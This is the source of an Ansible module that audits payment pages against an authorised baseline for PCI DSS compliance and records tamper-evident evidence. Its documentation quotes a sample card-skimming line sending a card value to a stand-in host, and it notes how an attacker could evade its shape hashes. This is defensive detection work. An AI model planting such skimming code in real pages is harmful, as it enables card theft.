#!/usr/bin/python
# Copyright: (c) 2026, the edgeops.observability contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

DOCUMENTATION = r"""
module: page_audit
short_description: Compare payment pages (headers, inline code, frames, forms) with an authorised state, and keep evidence
version_added: 1.0.0
author:
  - edgeops.observability contributors (@edgeops)
description:
  - Reads the document of each page as a browser would receive it, and compares its HTTP headers, the scripts that it names, its inline code, its
    frames and where its forms send to with an entry of O(baseline). The script monitor of the service shows none of these but scripts.
  - With O(evidence_dir), each audit adds a record to a chain of evidence, also in check mode, because the record is the product of an audit.
  - The module never asks the API. It sends C(GET) to the given pages only, follows at most five redirects, and sends no cookie and no credential. It
    loads nothing that a page names, and evaluates nothing.
  - It answers PCI DSS 4.0.1 11.6.1.a and b in part (headers, the document's own code, which scripts it names; never the content of an external
    script, and one fetch from one place is not what every consumer receives) and the inline part of 6.4.3. The guide
    R(payment pages,ansible_collections.edgeops.observability.docsite.guide_payment_pages) describes it.
requirements:
  - python >= 3.10
  - requests, with urllib3 1.26 or 2
  - justhtml 3.16 (an HTML parser; this module alone needs it)
extends_documentation_fragment:
  - edgeops.observability.attributes.info
  - edgeops.observability.attributes
attributes:
  check_mode:
    details:
      - Sends only C(GET) requests. The record of evidence is also written in check mode.
  idempotent:
    details:
      - Each run adds a record to O(evidence_dir).
  action_group:
    description: The options of the connection to the API are not those of this module.
    support: none
    membership: []
options:
  zone_id:
    description:
      - Id of the zone whose evidence the audit belongs to. Needed with O(evidence_dir).
      - If omitted, the variable C(zone_id) of the host.
    type: str
  pages:
    description:
      - The pages to read. A text in place of a dictionary is its O(pages[].url).
      - If omitted, the variable C(edgeops_pages) of the host.
    type: list
    elements: dict
    required: true
    suboptions:
      url:
        description:
          - URL of the page. It must begin with C(https://); C(http://) is accepted for this machine. User information is refused.
          - Each URL can stand once.
        type: str
        required: true
      har:
        description:
          - A file in the format HAR 1.2 that a browser recorded, with contents. The page is then read from it, and not fetched.
          - The document is the last response for O(pages[].url) that is no redirect. Every script and every further document of the same page counts as
            a script or a frame, so that what a tag manager adds is seen; another earlier document of the page itself, too. So does what a recording does
            not say the type or the page of.
          - Documents of the page that belong to another page of the recording are left out, with a warning and in RV(pages[].left_out).
          - A recording that is older than O(max_gap_days) days or of a day after the audit, or lacks a part of the content of the page, is
            V(page_unread).
          - A relative path starts at the working directory of C(ansible-playbook), for tasks on a local connection.
        type: path
      request_headers:
        description:
          - Further request headers, for example for a page behind a password. They are sent to the origin of O(pages[].url) only, also when it redirects.
          - They are hidden in the arguments. A credential in them is masked in every result and record, also where a page repeats it or a part of
            it, such as a token without its scheme, the value of one cookie, or what C(Basic) encodes.
          - A credential is each value of a header whose name contains C(auth), C(cookie), C(key), C(pass), C(secret), C(session) or C(token), and of
            another header a value of at least 8 characters that is not a word of letters only, shorter than 16. A part of the URL of a page is none, nor
            are the values of C(Accept), C(Accept-Charset), C(Accept-Encoding), C(Accept-Language), C(Cache-Control), C(DNT), C(Pragma), C(Save-Data),
            C(Upgrade-Insecure-Requests) and C(User-Agent).
        type: dict
  baseline:
    description:
      - The authorised states, a list of entries. An empty list makes every page V(page_new).
      - "Members of an entry: C(name) (required, unique), C(page) (required, a URL or a pattern as in
        O(edgeops.observability.script_audit#module:baseline)), C(headers), C(scripts), C(inline), C(frames), C(forms), C(owner), C(justification),
        C(authorised_by), C(authorised_on), C(review_by)."
      - C(headers) is a dictionary of names and values; a header of O(headers) that it lacks must be absent. A list means that the header is sent so often.
        C(meta:content-security-policy), C(meta:refresh) and C(base) stand for what the document itself says.
      - A content security policy is compared as a set of directives and sources. Each nonce is one mark, C('nonce-*'), and the query of a reporting
        address is ignored. A directive that stands twice is an error.
      - C(scripts) and C(frames) are lists of URLs or patterns, or of dictionaries with C(url), C(required=true) and,
        for scripts, C(integrity=required), which each of its elements must have; where none shows the script, as in a recording of what
        other scripts loaded, it is not known. What is required is V(gone) if a fetch lacks it, or has it where it is not executed or shown.
      - C(inline) is a list of hashes as in a content security policy (C(sha256-) and Base64), or of shapes (C(shape-) and Base64), which
        RV(pages[].inline[].shape) describes.
      - C(forms) is a list of origins without a path. V('self') is the origin of the page. V(mailto:) and V(data:) stand for themselves.
      - If several entries fit a page, an exact URL takes precedence over a pattern, and a longer literal prefix over a shorter one. Two that fit equally
        well are an error.
      - Also accepted as JSON text, or in Python's notation. If omitted, the variable C(edgeops_page_baseline) of the host.
    type: raw
    required: true
  script_baseline:
    description:
      - Authorised scripts, as in O(edgeops.observability.script_audit#module:baseline). A script that a complete entry authorises, whose C(review_by) is
        not past, needs no line in C(scripts) of O(baseline).
      - If omitted, the variable C(edgeops_script_baseline) of the host.
    type: raw
    default: []
  headers:
    description: Names of the response headers that are compared. An entry with another header is an error.
    type: list
    elements: str
    default: [content-security-policy, content-security-policy-report-only, strict-transport-security, x-frame-options, x-content-type-options,
      referrer-policy, permissions-policy, cross-origin-opener-policy, cross-origin-embedder-policy, cross-origin-resource-policy,
      access-control-allow-origin, refresh, speculation-rules, integrity-policy, document-policy, reporting-endpoints, content-disposition]
  fetches:
    description:
      - How often each page is fetched, 1 to 5. What any fetch shows counts. Inline code that differs between them is RV(pages[].inline[].dynamic).
    type: int
    default: 2
  timeout:
    description:
      - Seconds for one try of a request, at most 3600. Half of it for connecting, the whole for each wait for bytes, and for the body as a whole.
    type: float
    default: 30.0
  max_bytes:
    description: Bytes of a decompressed body after which reading stops, which is V(page_unread). At most 67108864.
    type: int
    default: 5242880
  user_agent:
    description: The C(User-Agent) of the requests. If omitted, V(Mozilla/5.0 (compatible; edgeops.observability/VERSION)).
    type: str
  validate_certs:
    description: Whether the certificates of the pages are verified.
    type: bool
    default: true
  ca_path:
    description: File or folder with the certificates to trust. It takes precedence over C(REQUESTS_CA_BUNDLE) and C(CURL_CA_BUNDLE).
    type: path
  fail_on:
    description:
      - The findings that fail the task with the kind V(gate), after the evidence is written. The failed result has all return values.
      - V(all) means every finding but V(unused). With an empty list no finding fails the task; with any in it V(page_unread) and V(redirected) fail as
        well, because what is named could not be judged. RV(summary) describes the findings.
    type: list
    elements: str
    choices: [all, page_unread, page_new, header_changed, script_new, inline_new, frame_new, form_new, gone, redirected, expired, unjustified,
      evidence_gap, history_broken, unused]
    default: []
  evidence_dir:
    description:
      - Folder of the evidence, one file for each zone, C(ZONE_ID.pages.jsonl), beside that of the scripts. It is created if it is missing.
      - A relative path starts at the working directory of C(ansible-playbook), for tasks on a local connection.
      - A record has the time, what was looked at, what each page showed, the findings, and the digests of both baselines and of the record before it.
      - What was looked at includes O(user_agent) if it is not the default, and the names of O(pages[].request_headers), with the values of those that
        hold no credential. Whether the value of another one changed is in no record, because a digest of a short secret could be guessed.
      - If omitted, the variable C(edgeops_evidence_dir) of the host.
    type: path
  expected_head:
    description:
      - The RV(evidence.head) of an earlier record, stored outside of O(evidence_dir), because a chain alone does not show that its last records were
        removed. If no record has this digest, the finding is V(history_broken).
      - If omitted, the variable C(edgeops_expected_pages_head) of the host, or what C(edgeops_expected_heads) has for the zone.
    type: str
  max_gap_days:
    description: Days of UTC, from 1 on, after which the last record, or a recording, is too old.
    type: float
    default: 7.0
  at:
    description: The time of the audit in RFC 3339. If omitted, now.
    type: str
notes:
  - Proxies of the environment are used, C(netrc) files are not read.
seealso:
  - module: edgeops.observability.script_audit
  - module: edgeops.observability.script_evidence_info
"""

EXAMPLES = r"""
- name: Compare the checkout with its authorised state
  edgeops.observability.page_audit:
    zone_id: 023e105f4ecef8ad9ca31a8372d0c353
    pages:
      - https://shop.example.com/checkout
    evidence_dir: evidence
    baseline:
      - name: checkout
        page: https://shop.example.com/checkout
        headers:
          content-security-policy: "script-src 'self' https://js.stripe.com/v3/; frame-ancestors 'none'"
          strict-transport-security: max-age=31536000; includeSubDomains
        scripts:
          - https://js.stripe.com/v3/*
        inline:
          - sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=
        frames:
          - https://js.stripe.com/**
        forms:
          - "'self'"
        owner: payments@example.com
        justification: card checkout
        authorised_by: j.doe
        authorised_on: "2026-11-01"
        review_by: "2027-05-01"
  register: audit

- name: Show the findings
  ansible.builtin.debug:
    msg: "{{ item.kind }}: {{ item.page }}: {{ item.message }}"
  loop: "{{ audit.findings }}"
  loop_control:
    label: "{{ item.kind }}"

- name: Read a page that only a browser can reach
  edgeops.observability.page_audit:
    pages:
      - url: https://shop.example.com/checkout
        har: checkout.har
    baseline: []
"""

RETURN = r"""
zone_id:
  description: The id of the zone.
  returned: if the task or its host names one
  type: str
  sample: 023e105f4ecef8ad9ca31a8372d0c353
pages:
  description: What each page showed, in the order of O(pages). Of a page that could not be read, only its URL is known.
  returned: success, and failure with the kind C(gate)
  type: list
  elements: dict
  contains:
    url:
      description: The URL that was asked for.
      type: str
      sample: https://shop.example.com/checkout
    final_url:
      description: The URL at the end of its redirects; V(null) if it could not be read, as all members up to C(status).
      type: str
      sample: https://shop.example.com/checkout
    source:
      description: V(fetch) or V(har).
      type: str
      sample: fetch
    recorded_at:
      description: When a recording was made; V(null) for a page that was fetched.
      type: str
      sample:
    status:
      description: HTTP status of the answer.
      type: int
      sample: 200
    entry:
      description: Name of the entry that covers the page, or V(null).
      type: str
      sample: checkout
    headers:
      description:
        - The value of each header that is compared; V(null) if it was not sent, a list if it was sent several times. Each policy of several counts.
      type: dict
      sample: {"content-security-policy": "script-src 'self' 'nonce-*'", "x-frame-options": null}
    left_out:
      description:
        - What is not compared or not proposed, and why, for example the policy with which the service samples what browsers load, which comes and goes.
      type: list
      elements: dict
      contains:
        what:
          description: A policy, or a part of the page.
          type: str
          sample: script-src 'none'; report-uri https://csp-reporting.cloudflare.com/cdn-cgi/script_monitor/report
        why:
          description: The reason.
          type: str
          sample: the policy with which the service samples what browsers load
    scripts:
      description: Scripts with a URL, preloads of scripts, and what else a recording loaded.
      type: list
      elements: dict
      contains:
        url:
          description: The URL as a browser resolves it.
          type: str
          sample: https://js.stripe.com/v3/
        integrity:
          description: Value of the attribute, or V(null).
          type: str
          sample:
        crossorigin:
          description: Value of the attribute, or V(null).
          type: str
          sample:
        kind:
          description: V(script), V(module), V(importmap), V(speculationrules), V(preload), V(modulepreload), or V(loaded) for what a recording shows.
          type: str
          sample: script
        line:
          description: Line of the document, or V(null).
          type: int
          sample: 12
    inline:
      description: Code in the document itself. Code that differs between fetches and has one shape stands once.
      type: list
      elements: dict
      contains:
        hash:
          description: Hash of the code as browsers compute it for a content security policy; of a C(javascript:) address with its scheme.
          type: str
          sample: sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=
        shape:
          description:
            - Hash of the code in which the text of strings and templates and the numbers are one mark, comments and runs of blanks one blank. Of a text that
              begins with a scheme or C(//), scheme and host stay. It is equal for code into which a server writes other values each time.
            - An attacker could hide in what a shape ignores, names in strings such as the C(cookie) of C(document['cookie']) and numbers that are decoded to
              text among it. Authorise a shape only for code that is V(dynamic).
            - V(null) where a reader cannot tell code from text, and for C(srcdoc), import maps and speculation rules.
          type: str
          sample: shape-aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzaGFwZS4uLi4=
        kind:
          description: V(script), V(module), V(importmap), V(speculationrules), V(handler) (an C(on…) attribute), V(javascript) or V(srcdoc).
          type: str
          sample: script
        dynamic:
          description: Whether it was not the same in each fetch.
          type: bool
          sample: false
        line:
          description: Line of the document.
          type: int
          sample: 41
        extract:
          description: The beginning of the code, at most 120 characters; of a recording without its texts.
          type: str
          sample: window.dataLayer=window.dataLayer||[];
    frames:
      description: Documents that the page embeds by their URL.
      type: list
      elements: dict
      contains:
        url:
          description: The URL as a browser resolves it.
          type: str
          sample: https://js.stripe.com/v3/controller.html
        line:
          description: Line of the document, or V(null).
          type: int
          sample: 52
    forms:
      description: Where forms send to.
      type: list
      elements: dict
      contains:
        origin:
          description: The origin, or the scheme of an address that has none.
          type: str
          sample: https://shop.example.com
        line:
          description: Line of the document.
          type: int
          sample: 30
summary:
  description: Number of findings of each kind.
  returned: success, and failure with the kind C(gate)
  type: dict
  contains:
    page_unread:
      description:
        - Pages that could not be read in at least one fetch, because there was no answer, no HTML, a status other than 2xx, a challenge of a bot
          protection, a body that is too large or incomplete, an encoding that browsers do not agree on, or a redirect that is not followed.
      type: int
      sample: 0
    page_new:
      description: Pages without an entry.
      type: int
      sample: 0
    header_changed:
      description: Headers that differ, are missing or were added.
      type: int
      sample: 0
    script_new:
      description: Scripts that the entry does not authorise, and scripts without a valid C(integrity) where the entry requires it.
      type: int
      sample: 0
    inline_new:
      description: Inline code that the entry does not authorise.
      type: int
      sample: 1
    frame_new:
      description: Frames that the entry does not authorise.
      type: int
      sample: 0
    form_new:
      description: Targets of forms that the entry does not authorise.
      type: int
      sample: 0
    gone:
      description: Required scripts and frames that a page does not have.
      type: int
      sample: 0
    redirected:
      description: Pages that end on another origin, or on a URL that C(page) of the entry does not fit.
      type: int
      sample: 0
    expired:
      description: Entries whose C(review_by) is past, of scripts too.
      type: int
      sample: 0
    unjustified:
      description: Entries without owner, justification or C(authorised_by), or whose C(authorised_on) is later than the day of the audit, of scripts too.
      type: int
      sample: 0
    evidence_gap:
      description: 1 if the last record is older than O(max_gap_days).
      type: int
      sample: 0
    history_broken:
      description: 1 if the chain of evidence is invalid, a baseline that it names was edited, O(expected_head) is not in it, or the last record is later
        than the audit.
      type: int
      sample: 0
    unused:
      description: Entries that fit no page, and lines of entries that fit nothing.
      type: int
      sample: 0
findings:
  description: The findings, sorted by kind, page and subject.
  returned: success, and failure with the kind C(gate)
  type: list
  elements: dict
  contains:
    kind:
      description: One of the members of RV(summary).
      type: str
      sample: inline_new
    page:
      description: URL of the page; V(null) if the finding is about an entry, or about the audit as a whole.
      type: str
      sample: https://shop.example.com/checkout
    subject:
      description: The header, URL, hash, shape, origin or entry that it is about, of an unused line what it names; V(null) if it is about the page.
      type: str
      sample: sha256-FW8hvYlf4CVi4QBPamP9uvrIEcow4wqrv/QSwwIa7pU=
    is:
      description: What the page shows, of a policy only what differs, of code its beginning; or V(null).
      type: str
      sample: new Image().src='https://evil.example/?'+card.value
    should_be:
      description: What the entry says, or V(null).
      type: str
      sample:
    line:
      description: Line of the document, or V(null).
      type: int
      sample: 41
    message:
      description: A sentence for the user.
      type: str
      sample: "line 41: inline code that entry 'checkout' does not authorise: new Image().src='https://evil.example/?'+card.value"
passed:
  description: Whether there is no finding but V(unused).
  returned: success, and failure with the kind C(gate)
  type: bool
  sample: false
proposals:
  description:
    - For each page that was read and has a finding of its own, the entry that would take the place of its entry; a page under a pattern gets one of its own.
    - Their owner, justification and C(authorised_by) are V(null), because adopting a page does not authorise it.
  returned: success, and failure with the kind C(gate)
  type: list
  elements: dict
  sample:
    - name: checkout
      page: https://shop.example.com/checkout
      headers: {content-security-policy: "script-src 'self'"}
      scripts: ["https://js.stripe.com/v3/*"]
      inline: ["sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="]
      frames: []
      forms: ["'self'"]
      owner:
      justification:
      authorised_by:
      authorised_on:
      review_by:
evidence:
  description: The record that this audit added.
  returned: success, and failure with the kind C(gate)
  type: dict
  contains:
    seq:
      description: Number of the record, from 1; V(null) without O(evidence_dir).
      type: int
      sample: 12
    head:
      description: Digest of the record, to be kept elsewhere and passed as O(expected_head) to a later audit; V(null) without O(evidence_dir).
      type: str
      sample: 2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae
error:
  description: Why the task failed, as data for a playbook.
  returned: failure
  type: dict
  sample: {kind: gate, method: null, path: null, status: null, errors: [], request_id: null, attempts: 0}
"""

from ansible_collections.edgeops.observability.plugins.module_utils._supported import check_supported

check_supported()

from ansible_collections.edgeops.observability.plugins.module_utils._engine.module import run_module
from ansible_collections.edgeops.observability.plugins.module_utils._pages.task import TASK


def main() -> None:
    run_module(TASK)


if __name__ == "__main__":
    main()
